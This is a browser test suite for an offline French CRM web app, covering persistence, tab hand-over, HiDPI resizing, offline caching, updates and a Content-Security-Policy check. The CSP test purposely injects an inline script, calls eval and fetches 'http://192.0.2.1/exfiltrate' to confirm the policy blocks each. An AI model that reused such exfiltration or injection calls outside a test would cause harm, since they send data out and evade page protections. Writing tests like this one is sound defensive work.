// What only a browser has: OPFS across restarts, one tab owning the database, HiDPI and
// resizes, the hidden textarea, the offline cache.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { startServer } from '../../tools/serve.mjs';
import { test, launchProfile, newProfile, shots, colourStats, hasItem, openApp, findItem, click, focusField, waitFor, signIn, ADMIN, violations, openPages, dist, tmp } from './browser.mjs';

test('a client created through window.crm.call is still there after the browser restarts', async (url) => {
  const dir = newProfile();
  let ctx = await launchProfile(dir);
  let id;
  try {
    const { page } = await openApp(ctx, url);
    await signIn(page);
    const reply = await page.evaluate(() => window.crm.call('client.create',
      { code: 'PERSIST-1', name: 'Société Pérenne — Île-de-France', email: 'compta@perenne.fr', siret: '73282932000074' }));
    assert.ok(reply.result, JSON.stringify(reply));
    id = reply.result.id;
  } finally {
    await ctx.close();
  }
  ctx = await launchProfile(dir);
  try {
    const { page, errors } = await openApp(ctx, url);
    const refused = await page.evaluate((i) => window.crm.call('client.get', { id: i }), id);
    assert.equal(refused.error.code, 'unauthenticated'); // a new browser signs in again
    await signIn(page);
    const got = await page.evaluate((i) => window.crm.call('client.get', { id: i }), id);
    assert.equal(got.result.name, 'Société Pérenne — Île-de-France');
    assert.equal(got.result.siret, '73282932000074');
    await findItem(page, 'Société Pérenne — Île-de-France'); // and the interface lists it
    assert.deepEqual(errors, []);
  } finally {
    await ctx.close();
  }
});

test('a second tab is told the database is open elsewhere and takes it over: the owner finishes its command, hands over, and can take it back', async (url) => {
  const ctx = await launchProfile(newProfile());
  try {
    const first = await openApp(ctx, url);
    await signIn(first.page);
    const second = await ctx.newPage();
    openPages.add(second);
    const secondErrors = [];
    second.on('pageerror', (e) => secondErrors.push(String(e)));
    await second.goto(url);
    await waitFor(second, () => window.crm && window.crm.status() === 'locked' && window.crm.ui.ready());
    const notice = await findItem(second, 'notice:locked');
    assert.match((await second.evaluate(() => window.crm.ui.items()['notice:locked']))[4], /Déjà ouvert dans un autre onglet/);
    assert.ok(notice.rect[2] > 0);
    await findItem(second, 'Prendre la main ici');
    await second.locator('#canvas').screenshot({ path: path.join(shots, 'second-tab.png') });
    const refused = await second.evaluate(() => window.crm.call('client.list', {}));
    assert.equal(refused.error.reason, 'locked');
    assert.equal((await first.page.evaluate(() => window.crm.call('client.list', {}))).result.total, 0);

    // The first tab is busy — a long command (a generated portfolio) and writes queued
    // behind it — when the second one takes over.
    await first.page.evaluate(() => {
      window.outcomes = [];
      window.crm.call('demo.generate', { clients: 40, invoices: 2000, seed: 5 }).then((r) => window.outcomes.push(['generate', r]));
      for (let k = 0; k < 30; ++k) {
        window.crm.call('client.create', { code: 'Q' + k, name: 'En file ' + k }).then((r) => window.outcomes.push(['Q' + k, r]));
      }
    });
    await click(second, 'Prendre la main ici');
    await waitFor(first.page, () => window.crm.status() === 'released' && window.outcomes.length === 31, null, 60000);
    await findItem(first.page, 'notice:released');
    await first.page.locator('#canvas').screenshot({ path: path.join(shots, 'handed-over.png') });
    const outcomes = await first.page.evaluate(() => window.outcomes);
    // Everything sent before the hand-over request was finished, not cut: each got its
    // success reply (nothing was refused, since it all queued before the request).
    for (const [what, r] of outcomes) assert.ok(r.result, `${what}: ${JSON.stringify(r).slice(0, 200)}`);
    const afterwards = await first.page.evaluate(() => window.crm.call('client.list', {}));
    assert.equal(afterwards.error.reason, 'locked');

    await waitFor(second, () => window.crm.status() === 'ready', null, 30000);
    await signIn(second);
    const seen = await second.evaluate(async () => {
      const codes = [];
      for (let page = 0; ; page += 200) {
        const r = (await window.crm.call('client.list', { limit: 200, offset: page })).result;
        codes.push(...r.rows.map((c) => c.code));
        if (codes.length >= r.total) break;
      }
      return { codes, check: (await window.crm.call('invoice.list', { limit: 1 })).result.total };
    });
    for (let k = 0; k < 30; ++k) assert.ok(seen.codes.includes('Q' + k), 'Q' + k);
    assert.equal(seen.codes.length, 30 + 40);
    assert.equal(seen.check, 2000);

    // The first tab takes it back; the second says it handed over.
    await click(first.page, 'Reprendre la main ici');
    await waitFor(second, () => window.crm.status() === 'released', null, 30000);
    await waitFor(first.page, () => window.crm.status() === 'ready', null, 30000);
    await signIn(first.page);
    assert.equal((await first.page.evaluate(() => window.crm.call('client.list', {}))).result.total, 70);
    assert.deepEqual(first.errors, []);
    assert.deepEqual(secondErrors, []);
  } finally {
    await ctx.close();
  }
});

test('the canvas follows devicePixelRatio and window resizes', async (url) => {
  const ctx = await launchProfile(newProfile(), { width: 900, height: 600 }, 2);
  try {
    const { page, errors } = await openApp(ctx, url);
    await signIn(page);
    const size = () => page.evaluate(() => {
      const c = document.getElementById('canvas');
      return [c.width, c.height, c.clientWidth, c.clientHeight];
    });
    await waitFor(page, () => document.getElementById('canvas').width === 1800);
    assert.deepEqual(await size(), [1800, 1200, 900, 600]);
    await page.setViewportSize({ width: 1100, height: 700 });
    await waitFor(page, () => document.getElementById('canvas').width === 2200);
    assert.deepEqual(await size(), [2200, 1400, 1100, 700]);
    // Widgets are laid out in CSS pixels, so the button stays under the pointer.
    await click(page, 'Nouveau client');
    await findItem(page, '##form-code');
    await page.locator('#canvas').screenshot({ path: path.join(shots, 'clients-hidpi.png') });
    assert.deepEqual(errors, []);
  } finally {
    await ctx.close();
  }
});

test('composed or pasted text arrives whole through the hidden textarea', async (url) => {
  const ctx = await launchProfile(newProfile());
  try {
    const { page } = await openApp(ctx, url);
    await signIn(page);
    await click(page, 'Nouveau client');
    await focusField(page, '##form-code');
    await page.keyboard.insertText('IME-1');          // one input event, as an IME commit or a paste
    await focusField(page, '##form-name');
    await page.keyboard.insertText('Œnologie Bâtie « Légère » – 12 €');
    await page.keyboard.press('Enter');              // Enter in a field saves the form
    await findItem(page, 'Œnologie Bâtie « Légère » – 12 €');
    const r = await page.evaluate(() => window.crm.call('client.list', { search: 'oenologie' }));
    assert.equal(r.result.rows[0].name, 'Œnologie Bâtie « Légère » – 12 €');
    assert.equal(r.result.rows[0].code, 'IME-1');
  } finally {
    await ctx.close();
  }
});

test('open once, then it works with no network: the service worker serves the site', async (url) => {
  const ctx = await launchProfile(newProfile());
  try {
    const { page, errors } = await openApp(ctx, url);
    await signIn(page);
    await page.evaluate(() => window.crm.call('client.create', { code: 'HORS-LIGNE', name: 'Café du Réseau Coupé' }));
    await page.evaluate(() => navigator.serviceWorker.ready);
    await waitFor(page, async () => (await caches.keys()).length > 0 && (await (await caches.open((await caches.keys())[0])).keys()).length >= 11);
    await ctx.setOffline(true);
    await page.reload();
    await waitFor(page, () => window.crm && window.crm.status() === 'ready' && window.crm.ui.ready());
    await findItem(page, 'Café du Réseau Coupé'); // the session survives the reload too
    const r = await page.evaluate(() => window.crm.call('client.create', { code: 'HL-2', name: 'Écrit hors ligne' }));
    assert.ok(r.result, JSON.stringify(r));
    await page.locator('#canvas').screenshot({ path: path.join(shots, 'offline.png') });
    // The demo portfolio is not in the database module: the worker fetches it when asked,
    // and offline the service worker has it. A new database in another tab loads it (and
    // is that database: offline, the cached worker script is told its name, regression
    // 2026-12-01, where it fell back to crm.db, held by the first tab).
    const other = await ctx.newPage();
    await other.goto(`${url}index.html?db=offline-demo.db`);
    await waitFor(other, () => window.crm && window.crm.status() === 'ready');
    const demo = await other.evaluate(() => window.crm.call('demo.portfolio', {}));
    assert.ok(demo.result && demo.result.rows.invoices >= 3000, JSON.stringify(demo).slice(0, 300));
    await other.close();
    assert.deepEqual(errors.filter((e) => !e.includes('ERR_INTERNET_DISCONNECTED')), []);
  } finally {
    await ctx.close();
  }
});

test('a new build deployed: the open page offers to reload, waits for the running command, and reloads on it still signed in; the site is installable', async () => {
  // A copy of the site, so the test can deploy a new build of it.
  const site = path.join(tmp, 'site-update');
  fs.cpSync(dist, site, { recursive: true });
  const { server, url } = await startServer({ root: site, port: 0 });
  const ctx = await launchProfile(newProfile());
  try {
    const { page, errors } = await openApp(ctx, url);
    await signIn(page);
    await waitFor(page, () => !!navigator.serviceWorker.controller);
    // Installable: a manifest with its icons, served from the site itself.
    const manifest = await page.evaluate(async () => {
      const href = document.querySelector('link[rel="manifest"]').href;
      const m = await (await fetch(href)).json();
      const icons = await Promise.all(m.icons.map(async (i) => {
        const r = await fetch(new URL(i.src, href));
        const bitmap = await createImageBitmap(await r.blob());
        return [i.sizes, r.headers.get('content-type'), bitmap.width];
      }));
      return { name: m.name, display: m.display, start: m.start_url, icons };
    });
    assert.deepEqual(manifest, { name: 'CRM Recouvrement', display: 'standalone', start: './',
      icons: [['192x192', 'image/png', 192], ['512x512', 'image/png', 512]] });
    const oldCaches = await page.evaluate(() => caches.keys());
    assert.equal(oldCaches.length, 1);
    assert.equal(await page.evaluate(() => window.crm.updateOffered()), false);

    // Deploy a new build: its service worker installs beside the running one and waits.
    const sw = path.join(site, 'sw.js');
    fs.writeFileSync(sw, fs.readFileSync(sw, 'utf8').replace(/const BUILD = '([^']*)'/, "const BUILD = '$1-next'"));
    await page.evaluate(async () => (await navigator.serviceWorker.getRegistration()).update());
    await findItem(page, 'Recharger pour mettre à jour', 30000);
    await page.locator('#canvas').screenshot({ path: path.join(shots, 'update-offered.png') });

    // A long command is running when the user accepts: the reload waits for its reply.
    await page.evaluate(() => {
      sessionStorage.setItem('generated', 'running');
      window.crm.call('demo.generate', { clients: 40, invoices: 3000, seed: 2 })
        .then((r) => sessionStorage.setItem('generated', r.result ? 'done' : JSON.stringify(r)));
    });
    const reloaded = page.waitForEvent('load', { timeout: 60000 });
    await click(page, 'Recharger pour mettre à jour');
    await reloaded;
    await waitFor(page, () => window.crm && window.crm.status() === 'ready' && window.crm.ui.ready(), null, 30000);
    assert.equal(await page.evaluate(() => sessionStorage.getItem('generated')), 'done');
    // Still signed in, on the new build, with the old cache gone.
    const after = await page.evaluate(async () => ({
      clients: (await window.crm.call('client.list', {})).result.total,
      caches: await caches.keys(),
      offered: window.crm.updateOffered(),
    }));
    assert.equal(after.clients, 40);
    assert.deepEqual(after.caches, [oldCaches[0] + '-next']);
    assert.equal(after.offered, false);
    assert.deepEqual(errors, []);
  } finally {
    await ctx.close();
    server.close();
  }
});

test('no network at run time: the Content-Security-Policy refuses eval and every other origin', async (url) => {
  const ctx = await launchProfile(newProfile());
  try {
    const { page } = await openApp(ctx, url);
    const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]').content);
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
    assert.doesNotMatch(csp, /'unsafe-eval'|'unsafe-inline'|https?:|\*/);
    // The app itself started under it (the runner fails a test on any violation); now
    // provoke three on purpose, from the page's own tasks (code DevTools runs directly is
    // exempt from the policy).
    const r = await page.evaluate(async () => {
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = true';
      document.head.appendChild(s);
      let evalRefused = false;
      await new Promise((done) => setTimeout(() => {
        try { (0, eval)('1 + 1'); } catch (e) { evalRefused = e instanceof EvalError; }
        done();
      }, 0));
      let fetchRefused = false;
      try { await fetch('http://192.0.2.1/exfiltrate'); } catch (e) { fetchRefused = true; }
      return { inlineRefused: window.__inlineRan !== true, evalRefused, fetchRefused };
    });
    assert.deepEqual(r, { inlineRefused: true, evalRefused: true, fetchRefused: true });
    assert.ok(violations.some((v) => v.startsWith('CSP:')), 'the refusals were reported as violations');
    violations.length = 0; // provoked above: not the app's doing
  } finally {
    await ctx.close();
  }
});
